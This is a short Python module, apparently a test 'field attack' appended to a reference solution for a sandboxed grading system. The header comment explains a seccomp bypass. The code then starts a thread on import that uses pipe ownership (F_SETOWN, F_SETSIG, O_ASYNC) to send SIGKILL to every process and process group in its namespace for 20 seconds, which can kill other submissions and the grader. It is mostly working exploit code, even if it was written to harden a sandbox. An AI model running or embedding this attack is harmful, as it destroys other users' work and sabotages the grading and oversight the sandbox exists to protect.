# module: cost
# A field attack (tests/test_field.py), appended to the reference: the signal thrower without
# kill(). The seccomp filter lets kill() reach only the child's own process group, but a pipe's
# read end can name any process (or process group) as its owner: fcntl F_SETOWN, F_SETSIG picks
# SIGKILL, O_ASYNC arms it, and each byte written to the pipe makes the kernel send that signal
# to the owner (the same-user check of kill(), no seccomp rule sees it; only Landlock's signal
# scoping, ABI 6, does). A thread does it to every pid and process group of its PID namespace
# (the test makes one for its own grading run), every 20 ms for at most 20 s. Every child of
# every submission runs as the one sandbox user, and where the grader is not root, so do the
# templates and the grader itself.
import fcntl as _fcntl
import os as _os
import signal as _signal
import threading as _threading
import time as _time

_F_SETSIG = 10


def _own() -> set:
    """This process and its threads: the owner would otherwise be the thrower itself."""
    try:
        return {_os.getpid(), *(int(t) for t in _os.listdir("/proc/self/task"))}
    except OSError:
        return {_os.getpid()}


def _throw():
    r, w = _os.pipe()
    _fcntl.fcntl(r, _F_SETSIG, _signal.SIGKILL)
    _fcntl.fcntl(r, _fcntl.F_SETFL, _fcntl.fcntl(r, _fcntl.F_GETFL) | _os.O_ASYNC)
    _os.set_blocking(r, False)
    end = _time.monotonic() + 20
    while _time.monotonic() < end:
        own = _own()
        for pid in range(2, 2000):
            if pid in own:
                continue
            for owner in (pid, -pid):  # the process, then the process group it leads
                try:
                    _fcntl.fcntl(r, _fcntl.F_SETOWN, owner)
                    _os.write(w, b"x")
                    _os.read(r, 1)
                except OSError:
                    pass
        _time.sleep(0.02)


_threading.Thread(target=_throw, daemon=True).start()
